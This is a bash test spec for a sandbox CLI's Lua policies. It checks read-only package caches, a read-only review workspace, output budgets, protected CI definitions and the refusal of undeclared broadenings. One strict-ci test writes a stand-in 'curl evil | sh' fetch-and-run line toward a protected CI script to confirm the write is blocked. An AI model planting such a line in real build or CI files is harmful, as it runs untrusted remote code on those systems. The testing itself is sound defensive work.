#!/usr/bin/env bash
# Every shipped policy (policies/*.lua; lib/ holds modules) through the CLI: it checks,
# runs under its own name, has a digest of its own, and shows its distinctive effect on
# the host side. A policy without a distinctive check here fails the spec: add one.
#   offline-build: host package caches readable inside, not writable; 600 s ceiling
#   review:        workspace readable but not writable (host files unchanged); scratch writable
#   strict-ci:     32 KiB output budget (live), 30 s ceiling, CI definition protected
source "$(dirname "$0")/lib.sh"
require_sandbox
command -v python3 >/dev/null || skip_all "python3 is needed to read the JSON output"

SRC=${A3S_SOURCE_DIR:-$(cd "$(dirname "$0")/../.." && pwd)}
jv() { python3 -c 'import json,sys
try: d = json.loads(sys.stdin.read())
except ValueError: print("<not JSON>"); sys.exit(0)
v = eval(sys.argv[1], {"d": d})
print(v if isinstance(v, str) else json.dumps(v))' "$1" <<<"$OUT"; }
canon() { (cd "$1" && pwd -P); }

policies=()
for f in "$SRC"/policies/*.lua; do policies+=("$(basename "$f" .lua)"); done
check "policies are shipped (baseline and derived ones)" test "${#policies[@]}" -ge 4

# --- every policy: check, run under its name, digest of its own ----------------------------
ws=$(tmpdir)
# `check` evaluates against the current directory as workspace: use a fresh one (a build
# tree as workspace would hold the launcher, which is refused).
cd "$ws" || exit 1
declare -A digest_of=()
for p in "${policies[@]}"; do
  run_cli check "$SRC/policies/$p.lua"
  check "$p: check exits 0" eq "$RC" 0
  check "$p: check says ok" contains "$OUT" "ok"
  run_cli digest --policy "$p" -w "$ws"
  check "$p: digest by name" eq "$RC" 0
  digest_of[$p]=$OUT
  run_cli plan --policy "$p" -w "$ws"
  check "$p: the plan is named after the file" eq "$(jv 'd["name"]')" "$p"
  check "$p: the network stays none" eq "$(jv 'd["network"]')" none
  run_cli --policy "$p" -w "$ws" --json -- printf %s "ran-$p"
  check "$p: runs a command" eq "$(jv '[d["exit_code"], d["stdout"], d["policy"]]')" \
    "[0, \"ran-$p\", \"$p\"]"
  check "$p: the result carries its digest" eq "$(jv 'd["policy_digest"]')" "${digest_of[$p]}"
done
dups=$(printf '%s\n' "${digest_of[@]}" | sort | uniq -d)
check "every policy has a digest of its own (none equals baseline's or another's)" eq "$dups" ""

# --- distinctive effects -------------------------------------------------------------------------
t_baseline() {
  local w; w=$(tmpdir)
  run_cli --policy baseline -w "$w" -c 'printf base > made.txt'
  check "baseline: the workspace is writable" eq "$RC/$(cat "$w/made.txt" 2>/dev/null)" "0/base"
}

t_offline_build() {
  local fh w; fh=$(tmpdir) w=$(tmpdir)
  fh=$(canon "$fh")
  mkdir -p "$fh/.cache/pip" "$fh/go/pkg/mod" "$fh/.m2/repository" "$fh/other"
  echo pip-cache-marker >"$fh/.cache/pip/marker"
  echo m2-credentials >"$fh/.m2/settings.xml" # next to a cache, not in it
  echo home-canary >"$fh/other/notes.txt"
  HOME=$fh run_cli --policy offline-build -w "$w" -c "cat '$fh/.cache/pip/marker'
    ls -A '$fh/go/pkg/mod' >/dev/null && echo gomod-visible
    printf '%s|%s\n' \"\$GOMODCACHE\" \"\$GOPROXY\"
    cat '$fh/.m2/settings.xml' '$fh/other/notes.txt' 2>/dev/null
    echo poison >> '$fh/.cache/pip/marker' 2>/dev/null && echo appended
    touch '$fh/.cache/pip/new' 2>/dev/null && echo created
    true"
  check "offline-build: runs with a HOME that has caches" eq "$RC" 0
  check "offline-build: the pip cache is readable inside" contains "$OUT" pip-cache-marker
  check "offline-build: the Go module cache is visible" contains "$OUT" gomod-visible
  check "offline-build: Go is pointed at it, downloads off" contains "$OUT" "$fh/go/pkg/mod|off"
  check "offline-build: the cache is not writable (no append)" not_contains "$OUT" appended
  check "offline-build: the cache is not writable (no create)" not_contains "$OUT" created
  check "offline-build: the host cache file is unchanged" eq "$(cat "$fh/.cache/pip/marker")" pip-cache-marker
  check "offline-build: nothing new in the host cache" eq "$(ls -A "$fh/.cache/pip")" marker
  check "offline-build: the rest of HOME stays hidden (config next to a cache too)" \
    not_contains "$OUT" credentials
  check "offline-build: other HOME files stay hidden" not_contains "$OUT" home-canary
  # The same command under the baseline does not see the cache: the effect is the policy's.
  HOME=$fh run_cli --policy baseline -w "$w" -c "cat '$fh/.cache/pip/marker' 2>/dev/null; true"
  check "offline-build: (baseline does not expose the cache)" not_contains "$OUT" pip-cache-marker
  HOME=$fh run_cli plan --policy offline-build -w "$w"
  check "offline-build: deadline ceiling 600 s" eq "$(jv 'd["limits"]["timeout_ms"]')" 600000
  check "offline-build: the cache rule is read-only, optional, discovered" eq \
    "$(jv "[[r['kind'], r['optional'], r['discovered']] for r in d['fs'] if r['path'] == '$fh/.cache/pip']")" \
    '[["read_only", true, true]]'
  # Discovered rules stay out of the digest: a HOME with caches gives the digest of a
  # HOME without any. (Both are fake homes: the baseline's digest for HOME=/root differs,
  # since /root is then hidden once, as ${home}.)
  local empty_home d_caches; empty_home=$(tmpdir)
  HOME=$fh run_cli digest --policy offline-build -w "$w"
  d_caches=$OUT
  HOME=$empty_home run_cli digest --policy offline-build -w "$w"
  check "offline-build: host caches do not change the digest" eq "$d_caches" "$OUT"
}

t_review() {
  local w; w=$(tmpdir)
  echo original >"$w/file.txt"
  mkdir "$w/src"
  echo 'code' >"$w/src/main.c"
  run_cli --policy review -w "$w" -c 'cat file.txt src/main.c
    echo changed > file.txt 2>/dev/null && echo wrote-file
    echo x >> src/main.c 2>/dev/null && echo appended
    touch new.txt 2>/dev/null && echo created
    mkdir newdir 2>/dev/null && echo made-dir
    rm -f file.txt 2>/dev/null; mv src/main.c src/moved.c 2>/dev/null
    printf scratch > "$HOME/s" && cat "$HOME/s"; printf tmp > /tmp/t && cat /tmp/t
    echo; true'
  check "review: runs" eq "$RC" 0
  check "review: workspace files are readable" contains "$OUT" "original
code"
  check "review: no write, append, create or mkdir succeeded" eq \
    "$(grep -cE '^(wrote-file|appended|created|made-dir)$' <<<"$OUT")" 0
  check "review: host files unchanged" eq "$(cat "$w/file.txt" "$w/src/main.c")" "original
code"
  check "review: nothing created, removed or renamed" eq "$(cd "$w" && find . | sort | tr '\n' ' ')" \
    ". ./file.txt ./src ./src/main.c "
  check "review: scratch (HOME) and /tmp stay writable" contains "$OUT" scratchtmp
  run_cli --policy review -w "$w" -c 'echo changed > file.txt'
  check "review: a write fails (the shell's redirection error, 1)" eq "$RC" 1
  check "review: the error is read-only file system" contains "$ERR" "Read-only file system"
  run_cli plan --policy review -w "$w"
  check "review: the workspace rule is read_only, from review.lua" eq \
    "$(jv "[[r['kind'], r['from'].rsplit(':', 1)[0].endswith(('policies/review.lua', '<builtin>/review.lua'))] for r in d['fs'] if r['path'] == '$(canon "$w")']")" \
    '[["read_only", true]]'
  check "review: no writable rule left inside the workspace" eq \
    "$(jv "[r['path'] for r in d['fs'] if r['kind'] == 'writable' and (r['path'] + '/').startswith('$(canon "$w")/')]")" '[]'
}

t_strict_ci() {
  local w; w=$(tmpdir)
  # Output budget, live: 200 000 bytes written, 32 KiB captured (baseline: 100 KiB).
  run_cli --policy strict-ci -w "$w" --json -c 'head -c 200000 /dev/zero | tr "\0" a'
  check "strict-ci: output truncated" eq "$(jv 'd["truncated"]')" true
  check "strict-ci: captured_bytes is the 32 KiB budget" eq "$(jv 'd["captured_bytes"]')" 32768
  check "strict-ci: total_bytes counts everything" eq "$(jv 'd["total_bytes"] >= 200000')" true
  run_cli --policy baseline -w "$w" --json -c 'head -c 200000 /dev/zero | tr "\0" a'
  check "strict-ci: (baseline captures 100 KiB)" eq "$(jv 'd["captured_bytes"]')" 102400
  run_cli plan --policy strict-ci -w "$w"
  check "strict-ci: limits 30 s and 32 KiB" eq \
    "$(jv '[d["limits"]["timeout_ms"], d["limits"]["output_bytes"]]')" "[30000, 32768]"
  check "strict-ci: the CI definition names are protected" eq \
    "$(jv '[".github" in d["pins"], "ci" in d["pins"], ".gitlab-ci.yml" in d["pins"]]')" "[true, true, true]"
  # Missing: cannot be created, and no placeholder is left behind.
  run_cli --policy strict-ci -w "$w" -c 'mkdir ci 2>/dev/null && echo made-ci
    mkdir -p .github/workflows 2>/dev/null && echo made-github
    echo "job: x" > .gitlab-ci.yml 2>/dev/null && echo made-gitlab; true'
  check "strict-ci: ci/, .github/ and .gitlab-ci.yml cannot be created" eq "$OUT" ""
  check "strict-ci: none of them is left on the host" eq "$(ls -A "$w")" ""
  # Existing: read-only (including below a protected directory).
  mkdir -p "$w/ci" "$w/.github/workflows"
  echo 'make test' >"$w/ci/run.sh"
  echo 'on: push' >"$w/.github/workflows/ci.yml"
  echo 'test: {}' >"$w/.gitlab-ci.yml"
  run_cli --policy strict-ci -w "$w" -c 'cat ci/run.sh
    echo "curl evil | sh" > ci/run.sh 2>/dev/null && echo wrote-ci
    touch ci/new.sh 2>/dev/null && echo created-ci
    echo x >> .github/workflows/ci.yml 2>/dev/null && echo wrote-github
    echo x > .gitlab-ci.yml 2>/dev/null && echo wrote-gitlab
    echo ok > build.log && echo wrote-log; true'
  check "strict-ci: protected files are readable" contains "$OUT" "make test"
  check "strict-ci: no protected file was written or created" eq \
    "$(grep -cE '^(wrote-ci|created-ci|wrote-github|wrote-gitlab)$' <<<"$OUT")" 0
  check "strict-ci: the rest of the workspace stays writable" contains "$OUT" wrote-log
  check "strict-ci: host CI files unchanged" eq \
    "$(cat "$w/ci/run.sh" "$w/.github/workflows/ci.yml" "$w/.gitlab-ci.yml")" "make test
on: push
test: {}"
  check "strict-ci: nothing new in ci/" eq "$(ls -A "$w/ci")" run.sh
  # The same writes under the baseline succeed: the protection is the policy's.
  run_cli --policy baseline -w "$w" -c 'echo changed > ci/run.sh'
  check "strict-ci: (baseline leaves ci/ writable)" eq "$(cat "$w/ci/run.sh")" changed
}

for p in "${policies[@]}"; do
  fn="t_${p//-/_}"
  if declare -F "$fn" >/dev/null; then
    "$fn"
  else
    fail "$p: no distinctive check in policies_spec.sh"
  fi
done

# --- a broadening declared only where a host query says so is not approved by the digest --
bw=$(tmpdir)
bx=$(tmpdir)
bp=$(tmpdir)
chmod 0755 "$bp"
# 0777: a root caller's command runs under the mapped id, and extra writable roots are
# not idmapped (README "Root callers").
chmod 0777 "$bx"
printf 'local plan = a3s.extend("baseline", "sneaky")\nif a3s.host.is_dir("%s") then plan:writable("%s", { broaden = true }) end\nreturn plan\n' "$bx" "$bx" >"$bp/sneaky.lua"
printf 'local plan = a3s.extend("baseline", "open")\nplan:writable("%s", { broaden = true })\nreturn plan\n' "$bx" >"$bp/open.lua"
run_cli -w "$bw" --policy "$bp/sneaky.lua" -c "echo x > '$bx/written'"
check "host-query broadening: refused (125)" eq "$RC" 125
check "host-query broadening: the error says the digest does not cover it" contains "$ERR" "digest does not cover"
check "host-query broadening: nothing written" test ! -e "$bx/written"
run_cli -w "$bw" --policy "$bp/open.lua" -c "echo x > '$bx/written'"
check "declared broadening (in the digest): runs" eq "$RC" 0
check "declared broadening: written" test -e "$bx/written"

finish
